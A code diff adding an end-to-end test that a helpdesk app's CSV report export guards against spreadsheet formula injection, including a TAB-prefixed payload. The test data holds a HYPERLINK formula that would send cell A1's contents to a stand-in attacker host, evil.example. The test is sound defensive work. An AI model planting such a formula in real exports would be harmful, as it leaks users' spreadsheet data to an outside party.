@@ -156,6 +156,39 @@ describe('reports over the API', () => {
   });
 });
 
+describe('the CSV formula guard end to end', () => {
+  it('a rule reason that starts with a TAB before a formula is guarded on both sides of the TAB, whatever the separator', async () => {
+    const desk = createDesk();
+    try {
+      const manager = desk.h.tokenFor(desk.h.agent({ name: 'Mo', email: 'mo@casebook.test', role: 'manager' }));
+      // A manager-published rule's reason is kept as written (the API trims subjects and names, not this).
+      const payload = '\t=HYPERLINK("http://evil.example/?"&A1,"SLA breached")';
+      const current = (await desk.call('GET', '/api/v1/rulesets/escalation', manager)).json;
+      const rules = (current.rules as Json[]).map((r) => (r.name === 'Breached SLAs go to advanced support' ? { ...r, event: { ...r.event, params: { ...r.event.params, reason: payload } } } : r));
+      expect((await desk.call('PUT', '/api/v1/rulesets/escalation', manager, { rules, note: 'tab reason' })).status).toBe(200);
+      desk.h.clock.set(berlin('2026-03-02T10:00'));
+      const id = await desk.create({ subject: 'Display name' });
+      desk.h.clock.set(berlin('2026-03-03T10:01'));
+      await runSlaSweep(desk.h.services);
+      const made = await desk.call('POST', '/api/v1/reports', manager, { from: berlin('2026-03-02T00:00'), to: berlin('2026-03-04T00:00') });
+      expect(made.status).toBe(201);
+      const csv = await (await desk.h.api('GET', `/api/v1/reports/${made.json.id}/report.csv`, { token: manager })).text();
+      const guarded = `"'\t'=HYPERLINK(""http://evil.example/?""&A1,""SLA breached"")"`;
+      expect(csv.split('\r\n').filter((l) => l.includes('HYPERLINK'))).toEqual([
+        expect.stringMatching(new RegExp(`^"escalation","${id}",.*,${guarded.replace(/[().?*+|]/g, '\\$&')},"Breached SLAs go to advanced support"$`)),
+        `"escalation_reason",,,,,,,,,,,,,1,,,,${guarded},`,
+      ]);
+      // Opened with TAB, semicolon, pipe or comma as the separator, no cell starts a formula.
+      for (const separator of ['\t', ';', '|', ',']) {
+        const cells = csv.split('\r\n').flatMap((line) => line.split(separator)).map((cell) => cell.replace(/^[\s"]+/, ''));
+        expect(cells.filter((cell) => /^[=+@]/.test(cell) || /^-[^0-9]/.test(cell))).toEqual([]);
+      }
+    } finally {
+      desk.h.close();
+    }
+  });
+});
+
 describe('the scheduled report', () => {
   it('covers the last 24 hours first, then the time since the end of the last scheduled report', async () => {
     d.h.clock.set(berlin('2026-03-03T07:00'));
